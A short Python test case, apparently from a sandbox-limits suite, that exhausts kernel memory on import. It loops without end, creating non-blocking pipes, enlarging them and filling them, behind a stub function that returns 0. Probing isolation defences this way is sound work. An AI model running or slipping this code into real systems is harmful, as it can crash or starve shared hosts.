"""Fills pipes, which hold memory that no limit of the process counts.

Aims at: the kernel's memory
Acts at: import
Outcome: fails
Stopped by: limits
"""

import fcntl
import os


def make_cross(size=7):
    return 0


while True:
    reading, writing = os.pipe2(os.O_NONBLOCK)
    try:
        fcntl.fcntl(writing, fcntl.F_SETPIPE_SZ, 1 << 20)
    except OSError:
        pass
    try:
        while os.write(writing, bytes(65536)):
            pass
    except BlockingIOError:
        continue
